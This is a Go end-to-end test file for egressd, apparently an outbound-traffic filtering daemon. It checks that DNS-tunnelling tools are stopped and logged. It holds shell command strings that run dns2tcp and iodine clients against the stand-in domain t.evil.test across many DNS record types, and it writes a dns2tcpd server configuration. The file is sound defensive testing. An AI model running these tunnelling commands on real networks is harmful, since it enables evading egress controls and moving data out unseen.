package run

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/egressd/egressd/e2e/world"
	"github.com/egressd/egressd/policy"
)

// TestEscapesByTunnelsThroughNames has dns2tcp and iodine talk to their servers,
// and looks that the first of them would get through without egressd. iodine has
// no interface inside to begin with, so that its first questions are asked by dig.
func TestEscapesByTunnelsThroughNames(t *testing.T) {
	d := world.NewDaemon(t, world.RunPolicy)
	serveTunnel(t, d)
	for _, kind := range []string{"TXT", "KEY"} {
		client := fmt.Sprintf(`sleep 1 | timeout 3 dns2tcpc -T %s -t 1 -z t.evil.test -k k -r svc -l - %s 2>&1`, kind, world.TunnelServer)
		if out := unheld(t, d, client); !strings.Contains(out, "through the tunnel") {
			t.Fatalf("without egressd, by %s: %q", kind, out)
		}
		for user := range world.Users {
			t.Run(user+"/dns2tcp by "+kind, func(t *testing.T) {
				r := tries(t, d, user, escape{script: client + "; echo done", out: "done"})
				if strings.Contains(r.out, "through") {
					t.Errorf("printed %q", r.out)
				}
				for _, rec := range r.records {
					if rec.Via == string(policy.ViaDNS) && strings.Contains(rec.Raw, "evil") && rec.Decision != nil {
						return
					}
				}
				t.Errorf("no record: %+v", r.records)
			})
		}
	}
	for user := range world.Users {
		for _, kind := range []string{"NULL", "TYPE65399", "TXT", "SRV", "MX", "CNAME", "A"} {
			t.Run(user+"/iodine by "+kind, func(t *testing.T) {
				tries(t, d, user, escape{script: `timeout 5 iodine -f -P x -r ` + world.TunnelServer + ` t.evil.test 2>&1; dig +time=3 +tries=1 @` + world.TunnelServer + ` vaaaakardli.t.evil.test ` + kind + ` | grep -c 'IN.*` + kind + `.*VACK'; echo done`, out: "0\ndone\n"})
			})
		}
	}
}

// serveTunnel runs the server of dns2tcp in the internet, with a service behind it.
func serveTunnel(t *testing.T, d *world.Daemon) { t.Helper(); serveTunnelFor(t, d, "t.evil.test") }

// serveTunnelFor runs it for one domain.
func serveTunnelFor(t *testing.T, d *world.Daemon, domain string) {
	t.Helper()
	l, err := d.World.Internet.Listen("tcp", "127.0.0.1:7000")
	if err != nil {
		t.Fatal(err)
	}
	world.Serve(t, l, func(c net.Conn) { io.WriteString(c, "through the tunnel\n") })
	config := filepath.Join(d.Dir, "dns2tcpd.conf")
	text := "listen = " + world.TunnelServer + "\nport = 53\ndomain = " + domain + "\nresources = svc:127.0.0.1:7000\nkey = k\n"
	if err := os.WriteFile(config, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	server := exec.CommandContext(ctx, "dns2tcpd", "-F", "-d", "1", "-f", config)
	var talk bytes.Buffer
	server.Stderr = &talk
	if err := d.World.Internet.Start(server); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cancel(); server.Wait() })
	if !world.Eventually(5*time.Second, func() bool { return hasPort(server, world.TunnelServer, 53) }) {
		t.Fatalf("no server: %s", talk.String())
	}
}

// hasPort reports whether a UDP socket has the port of the address in the network of
// a process. To look by taking the port would keep the process from it.
func hasPort(of *exec.Cmd, addr string, port uint16) bool {
	sockets, err := os.ReadFile(fmt.Sprintf("/proc/%d/net/udp", of.Process.Pid))
	at := netip.MustParseAddr(addr).As4()
	return err == nil && strings.Contains(string(sockets), fmt.Sprintf(": %02X%02X%02X%02X:%04X ", at[3], at[2], at[1], at[0], port))
}

// unheld runs a script in the gateway, without egressd.
func unheld(t *testing.T, d *world.Daemon, script string) string {
	t.Helper()
	var out bytes.Buffer
	cmd := exec.CommandContext(t.Context(), "sh", "-c", script)
	cmd.Stdout, cmd.Dir = &out, d.Dir
	if err := d.World.Gateway.Run(cmd); err != nil && cmd.ProcessState == nil {
		t.Fatal(err)
	}
	return out.String()
}
